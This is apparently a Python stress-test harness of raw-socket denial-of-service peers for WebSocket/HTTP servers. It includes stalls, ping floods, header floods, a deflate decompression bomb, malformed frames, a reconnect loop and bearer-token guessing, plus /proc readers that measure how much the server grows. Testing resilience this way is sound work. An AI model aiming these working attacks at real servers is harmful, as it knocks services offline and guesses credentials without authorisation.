"""Peers that mean no good: plain blocking sockets, one class per attack, no WebSocket library.

Runs against any server: `run("ping", ("127.0.0.1", 8000), seconds=5)`. Each attack tells how much it sent, how
long it lived and how it ended; what the server grew by is read by the caller from /proc.
"""

import base64
import contextlib
import functools
import itertools
import select
import socket
import struct
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Self


Address = tuple[str, int]

MASK = b"\x37\xfa\x21\x3d"
TEXT, BINARY, CONT, CLOSE, PING, PONG = 0x1, 0x2, 0x0, 0x8, 0x9, 0xA


@dataclass(frozen=True, slots=True, kw_only=True)
class Outcome:
    """What became of one attacker."""

    sent: int
    seconds: float
    end: str
    """`reset`, `closed`, `open` (still connected when time was up), or an HTTP status or close code seen."""
    heard: bytes = b""


def frame(opcode: int, payload: bytes = b"", *, fin: bool = True, rsv: int = 0) -> bytes:
    """A masked client frame (RFC 6455, 5.2)."""
    head = bytes([(0x80 if fin else 0) | rsv << 4 | opcode])
    size = len(payload)
    if size < 126:
        head += bytes([0x80 | size])
    elif size < 65_536:
        head += b"\xfe" + struct.pack("!H", size)
    else:
        head += b"\xff" + struct.pack("!Q", size)
    masked = bytes(byte ^ MASK[n & 3] for n, byte in enumerate(payload))
    return head + MASK + masked


def request(path: str = "/", headers: str = "", *, host: str = "localhost") -> bytes:
    return f"GET {path} HTTP/1.1\r\nHost: {host}\r\n{headers}\r\n".encode()


def upgrade(path: str = "/echo", headers: str = "", *, host: str = "localhost") -> bytes:
    key = base64.b64encode(b"0123456789abcdef").decode()
    return request(
        path,
        f"Upgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: {key}\r\n{headers}",
        host=host,
    )


def read_head(sock: socket.socket) -> bytes:
    """Read up to the blank line of an answer, byte by byte so that nothing behind it is lost."""
    head = b""
    while not head.endswith(b"\r\n\r\n"):
        byte = sock.recv(1)
        if not byte:
            break
        head += byte
    return head


def connect(address: Address, *, receive_buffer: int | None = None) -> socket.socket:
    sock = socket.socket()
    if receive_buffer is not None:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    sock.settimeout(10)
    try:
        sock.connect(address)
    except OSError:
        sock.close()
        raise
    return sock


def opened(
    address: Address, path: str = "/echo", *, receive_buffer: int | None = None
) -> socket.socket:
    """A socket behind a finished handshake."""
    sock = connect(address, receive_buffer=receive_buffer)
    try:
        sock.sendall(upgrade(path, host=f"{address[0]}:{address[1]}"))
        head = read_head(sock)
        if b" 101 " not in head:
            raise ConnectionError(head.decode(errors="replace"))
    except OSError:
        sock.close()
        raise
    return sock


def ended(sock: socket.socket, timeout_s: float = 30.0) -> str | None:
    """How the server ended the connection, without reading a byte; None when it is still open then."""
    poll = select.poll()
    poll.register(sock, select.POLLRDHUP | select.POLLERR | select.POLLHUP)
    for _, what in poll.poll(timeout_s * 1000):
        if what & select.POLLERR:
            return "reset"
        return "closed"
    return None


class Attack:
    """One attacker on one connection."""

    path = "/echo"
    reads = False
    receive_buffer: int | None = None

    def open(self, address: Address) -> socket.socket:
        return opened(address, self.path, receive_buffer=self.receive_buffer)

    def pieces(self) -> Iterator[bytes]:
        """What is sent, without end or not."""
        yield from ()

    def __call__(self, address: Address, seconds: float) -> Outcome:
        began = time.monotonic()
        sent, heard, end = 0, b"", None
        try:
            sock = self.open(address)
        except OSError as exc:
            return Outcome(
                sent=0, seconds=time.monotonic() - began, end="refused", heard=str(exc).encode()
            )
        with sock:
            try:
                for piece in self.pieces():
                    sent += self.push(sock, piece, began + seconds)
                    if self.reads:
                        heard = (heard + self.hear(sock))[-65_536:]
                    if time.monotonic() - began > seconds:
                        break
                while end is None and (left := began + seconds - time.monotonic()) > 0:
                    end = ended(sock, min(left, 0.02 if self.reads else left))
                    if self.reads:
                        heard = (heard + self.hear(sock))[-65_536:]
                if end != "reset":
                    heard = (heard + self.hear(sock))[-65_536:]
            except (ConnectionResetError, BrokenPipeError):
                end = "reset"
                with contextlib.suppress(OSError):
                    heard += self.hear(sock)
        return Outcome(
            sent=sent, seconds=time.monotonic() - began, end=end or "open", heard=bytes(heard)
        )

    def push(self, sock: socket.socket, piece: bytes, until: float) -> int:
        """Send one piece, giving up when time is over; returns bytes sent."""
        done = 0
        sock.setblocking(False)
        try:
            while done < len(piece) and time.monotonic() < until:
                try:
                    done += sock.send(memoryview(piece)[done:])
                except BlockingIOError:
                    if self.reads:
                        self.hear(sock)
                    select.select([], [sock], [], 0.02)
        finally:
            sock.setblocking(True)
        return done

    def hear(self, sock: socket.socket) -> bytes:
        """What has come, without waiting."""
        heard = b""
        while select.select([sock], [], [], 0)[0]:
            data = sock.recv(65_536)
            if not data:
                break
            heard += data
            if len(heard) > 1 << 20:
                break
        return heard


class Stall(Attack):
    """Subscribes to a flood and never reads."""

    path = "/flood"
    receive_buffer = 4_096


class Mute(Attack):
    """Reads everything, answers no ping."""

    reads = True


class Ping(Attack):
    """Pings of 125 bytes, reads no pong."""

    opcode = PING

    def pieces(self) -> Iterator[bytes]:
        yield from itertools.repeat(frame(self.opcode, b"x" * 125) * 400)


class PingReading(Ping):
    """The same, reading every pong: costs a core instead of memory."""

    reads = True


class Pong(Ping):
    """Pongs nobody asked for."""

    opcode = PONG


class EmptyFragments(Attack):
    """A message of empty continuation frames, without end."""

    payload = b""

    def pieces(self) -> Iterator[bytes]:
        yield frame(TEXT, b"", fin=False)
        yield from itertools.repeat(frame(CONT, self.payload, fin=False) * 4_000)


class ByteFragments(EmptyFragments):
    """A message of one-byte fragments."""

    payload = b"x"


class EmptyMessages(Attack):
    """40,000 empty text frames in one write."""

    def pieces(self) -> Iterator[bytes]:
        yield frame(TEXT) * 40_000


class TinyMessages(Attack):
    """Small messages whose replies it does not read."""

    receive_buffer = 4_096

    def pieces(self) -> Iterator[bytes]:
        yield from itertools.repeat(frame(TEXT, b"x") * 10_000)


class Unopened(Attack):
    """An attack before any answer."""

    def open(self, address: Address) -> socket.socket:
        return connect(address)


class ManyHeaders(Unopened):
    """Header lines without end."""

    def pieces(self) -> Iterator[bytes]:
        yield b"GET / HTTP/1.1\r\nHost: localhost\r\n"
        yield from itertools.repeat(
            b"X-Filler: 0123456789012345678901234567890123456789\r\n" * 1_000
        )


class LongHeader(Unopened):
    """One header without end."""

    start = b"GET / HTTP/1.1\r\nHost: localhost\r\nX-Filler: "

    def pieces(self) -> Iterator[bytes]:
        yield self.start
        yield from itertools.repeat(b"x" * 65_536)


class LongUrl(LongHeader):
    """One URL without end."""

    start = b"GET /"


class Pipeline(Unopened):
    """Requests one behind the other, answers unread."""

    def pieces(self) -> Iterator[bytes]:
        yield from itertools.repeat(request() * 1_000)


class Body(Unopened):
    """A body of 100 GB after the answer."""

    def pieces(self) -> Iterator[bytes]:
        yield b"POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 100000000000\r\n\r\n"
        yield from itertools.repeat(b"x" * 65_536)


class Partial(Unopened):
    """Half a header."""

    def pieces(self) -> Iterator[bytes]:
        yield b"GET / HTTP/1.1\r\nHost: loc"


class Silent(Unopened):
    """Nothing at all."""


class Bomb(Attack):
    """61 kB that inflate to 60 MiB, with the extension offered."""

    def open(self, address: Address) -> socket.socket:
        sock = connect(address)
        sock.sendall(upgrade(self.path, "Sec-WebSocket-Extensions: permessage-deflate\r\n"))
        head = read_head(sock)
        if b"permessage-deflate" in head.lower():
            self.path = "negotiated"
        return sock

    def __init__(self) -> None:
        self.data = bomb()

    def pieces(self) -> Iterator[bytes]:
        yield self.data


@functools.cache
def bomb() -> bytes:
    deflate = zlib.compressobj(wbits=-15)
    data = b"".join(deflate.compress(bytes(1 << 20)) for _ in range(60))
    return frame(TEXT, (data + deflate.flush(zlib.Z_SYNC_FLUSH))[:-4], rsv=4)


class Raw(Attack):
    """One malformed frame."""

    def __init__(self, data: bytes) -> None:
        self.data = data

    def pieces(self) -> Iterator[bytes]:
        yield self.data


class HalfClose(Stall):
    """Says it will send no more, and does not read either."""

    def open(self, address: Address) -> socket.socket:
        sock = super().open(address)
        sock.shutdown(socket.SHUT_WR)
        return sock


class ReconnectLoop(Attack):
    """Connects and goes, as fast as it can."""

    def __call__(self, address: Address, seconds: float) -> Outcome:
        began, count, failed = time.monotonic(), 0, 0
        while time.monotonic() - began < seconds:
            try:
                opened(address).close()
                count += 1
            except OSError:
                failed += 1
        return Outcome(sent=count, seconds=time.monotonic() - began, end=f"{failed} refused")


class AuthGuess(Attack):
    """Tries one token after the other; `sent` counts tries, `heard` the statuses."""

    def __call__(self, address: Address, seconds: float) -> Outcome:
        began, tries, statuses = time.monotonic(), 0, set()
        while time.monotonic() - began < seconds:
            try:
                with connect(address) as sock:
                    sock.sendall(upgrade("/ws", f"Authorization: Bearer rt_{tries:064x}\r\n"))
                    statuses.add(read_head(sock)[9:12])
            except OSError:
                statuses.add(b"RST")
            tries += 1
        return Outcome(
            sent=tries,
            seconds=time.monotonic() - began,
            end="open",
            heard=b" ".join(sorted(statuses)),
        )


ATTACKS: dict[str, Callable[[], Attack]] = {
    "stall": Stall,
    "mute": Mute,
    "ping": Ping,
    "ping_reading": PingReading,
    "pong": Pong,
    "empty_fragments": EmptyFragments,
    "byte_fragments": ByteFragments,
    "empty_messages": EmptyMessages,
    "tiny_messages": TinyMessages,
    "headers": ManyHeaders,
    "long_header": LongHeader,
    "long_url": LongUrl,
    "pipeline": Pipeline,
    "body": Body,
    "partial": Partial,
    "silent": Silent,
    "bomb": Bomb,
    "giant_length": lambda: Raw(b"\x81\xff" + struct.pack("!Q", 1 << 62) + MASK),
    "rsv_bits": lambda: Raw(frame(TEXT, b"x", rsv=2)),
    "unmasked": lambda: Raw(b"\x81\x01x"),
    "half_close": HalfClose,
    "reconnect_loop": ReconnectLoop,
    "auth_guess": AuthGuess,
}


def run(
    name: str, address: Address, *, seconds: float, attackers: int = 1, path: str | None = None
) -> list[Outcome]:
    """Let `attackers` of one kind loose at once, at their own path or at the one given."""
    outcomes: list[Outcome] = []

    def one(attack: Attack) -> None:
        outcomes.append(attack(address, seconds))

    attacks = [ATTACKS[name]() for _ in range(attackers)]
    for attack in attacks:
        attack.path = path or attack.path
    threads = [threading.Thread(target=one, args=(attack,)) for attack in attacks]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return outcomes


def resident(pid: int) -> int:
    """Resident memory of a process [B]."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) * 1024
    raise ProcessLookupError(pid)


def descriptors(pid: int) -> int:
    """Open files of a process."""
    return sum(1 for _ in Path(f"/proc/{pid}/fd").iterdir())


def orphans(port: int) -> list[int]:
    """Send queues of sockets of this port that no process owns any more and the peer does not read [B]."""
    found = []
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        fields = line.split()
        if int(fields[1].split(":")[1], 16) == port and fields[3] in {"04", "0B", "09"}:
            queued = int(fields[4].split(":")[0], 16)
            if queued:
                found.append(queued)
    return found


class Sampler:
    """The peak of a process's resident memory while it is watched."""

    def __init__(self, pid: int) -> None:
        self.pid = pid
        self.before = resident(pid)
        self.peak = self.before
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._watch)

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()

    def _watch(self) -> None:
        while not self._stop.wait(0.01):
            self.peak = max(self.peak, resident(self.pid))

    @property
    def growth(self) -> int:
        return self.peak - self.before
